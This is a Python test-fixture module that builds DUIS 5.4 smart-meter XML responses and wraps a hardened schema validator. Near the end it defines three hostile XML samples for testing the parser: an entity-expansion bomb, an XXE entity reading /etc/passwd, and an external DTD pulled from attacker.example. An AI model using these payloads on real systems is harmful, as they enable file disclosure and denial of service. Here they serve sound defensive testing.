"""DUIS 5.4 responses built for tests (no sample response exists in the DCC's repositories):
8.2 Read Inventory (``DSPInventory``) and 6.13 Read Security Log (``GBCSPayload``), valid
against the DUIS schema (``../shared/testdata/duis`` beside the repository, or
$TRIAGE_DUIS_TESTDATA: GPL-3.0 test data, read as data only) unless a test mutates them."""

from __future__ import annotations

import base64
import os
from dataclasses import dataclass
from pathlib import Path
from typing import ClassVar
from xml.sax.saxutils import escape

import xmlschema

from triage.duis.errors import DuisSchemaError

DUIS_DIR = Path(
    os.environ.get(
        "TRIAGE_DUIS_TESTDATA",
        Path(__file__).resolve().parents[1].parent / "shared" / "testdata" / "duis",
    )
)
DUIS_XSD = DUIS_DIR / "DUIS Schema V5.4.xsd"
READ_INVENTORY_REQUEST = DUIS_DIR / "8.2_READ_INVENTORY_REQUEST_DUIS.XML"
SR = "http://www.dccinterface.co.uk/ServiceUserGateway"
USER = "90-B3-D5-1F-30-01-00-00"
DCC = "90-B3-D5-1F-30-00-00-02"


@dataclass(frozen=True)
class Listed:
    """One ``sr:Device`` of a Read Inventory response."""

    device_id: str
    device_type: str = "ESME"
    status: str | None = "Decommissioned"
    manufacturer: str = "Acme"
    model: str = "E1"
    smets_chts_version: str | None = "SMETS2"
    firmware_version: str | None = "1.0.0"
    uprn: str | None = None

    def xml(self) -> str:
        parts = [
            f"<sr:DeviceID>{self.device_id}</sr:DeviceID>",
            f"<sr:DeviceType>{self.device_type}</sr:DeviceType>",
        ]
        if self.status is not None:
            parts.append(f"<sr:DeviceStatus>{self.status}</sr:DeviceStatus>")
        parts.append(f"<sr:DeviceManufacturer>{escape(self.manufacturer)}</sr:DeviceManufacturer>")
        parts.append(f"<sr:DeviceModel>{escape(self.model)}</sr:DeviceModel>")
        if self.smets_chts_version is not None:
            parts.append(f"<sr:SMETSCHTSVersion>{self.smets_chts_version}</sr:SMETSCHTSVersion>")
        if self.firmware_version is not None:
            parts.append(
                f"<sr:DeviceFirmwareVersion>{self.firmware_version}</sr:DeviceFirmwareVersion>"
            )
        if self.uprn is not None:
            parts.append(f"<sr:UPRN>{self.uprn}</sr:UPRN>")
        return "<sr:Device>" + "".join(parts) + "</sr:Device>"


def response(
    body: str,
    *,
    reference: str = "8.2",
    code: str = "I0",
    counter: int = 1000,
    at: str = "2026-12-01T10:15:00Z",
) -> bytes:
    """An ``sr:Response`` with ``body`` inside its ``sr:ResponseMessage``."""
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<sr:Response xmlns:sr="{SR}" schemaVersion="5.4">'
        "<sr:Header>"
        f"<sr:RequestID>{USER}:{DCC}:{counter}</sr:RequestID>"
        f"<sr:ResponseID>{DCC}:{USER}:{counter}</sr:ResponseID>"
        f"<sr:ResponseCode>{code}</sr:ResponseCode>"
        f"<sr:ResponseDateTime>{at}</sr:ResponseDateTime>"
        "</sr:Header>"
        "<sr:Body><sr:ResponseMessage>"
        f"<sr:ServiceReference>{reference}</sr:ServiceReference>"
        f"<sr:ServiceReferenceVariant>{reference}</sr:ServiceReferenceVariant>"
        f"{body}"
        "</sr:ResponseMessage></sr:Body>"
        "</sr:Response>"
    ).encode()


def read_inventory(
    *devices: Listed, code: str = "I0", counter: int = 1000, at: str = "2026-12-01T10:15:00Z"
) -> bytes:
    """An 8.2 Read Inventory response listing ``devices`` (no body unless the code is I0),
    answered by the DCC ``at``."""
    body = "<sr:DSPInventory>" + "".join(d.xml() for d in devices) + "</sr:DSPInventory>"
    return response(body if code == "I0" else "", code=code, counter=counter, at=at)


def read_security_log(gbcs: bytes, counter: int = 2000) -> bytes:
    """A 6.13 Read Security Log response carrying ``gbcs`` (the GBCS message) in base64."""
    payload = base64.b64encode(gbcs).decode()
    return response(
        f"<sr:GBCSPayload>{payload}</sr:GBCSPayload>", reference="6.13", counter=counter
    )


# Attacks on the XML parser: an entity expansion bomb, an external entity, an external DTD.
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<sr:Response xmlns:sr="http://www.dccinterface.co.uk/ServiceUserGateway">&lol3;</sr:Response>"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<sr:Response xmlns:sr="http://www.dccinterface.co.uk/ServiceUserGateway">&xxe;</sr:Response>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd">
<sr:Response xmlns:sr="http://www.dccinterface.co.uk/ServiceUserGateway"/>"""


class XsdValidator:
    """``ports.DuisValidator`` on the real DUIS schema, for tests until the facility's own
    (``App.duis_schema``) is used; loaded once (about 0.7 s)."""

    _schema: ClassVar[xmlschema.XMLSchema10 | None] = None

    @classmethod
    def schema(cls) -> xmlschema.XMLSchema10:
        if cls._schema is None:
            cls._schema = xmlschema.XMLSchema10(str(DUIS_XSD), defuse="always")
        return cls._schema

    def validate(self, xml: bytes) -> None:
        error = next(self.schema().iter_errors(xml.decode("utf-8", "replace")), None)
        if error is not None:
            raise DuisSchemaError(error.path or "/", error.reason or str(error))

    def is_valid(self, xml: bytes) -> bool:
        return bool(self.schema().is_valid(xml.decode()))
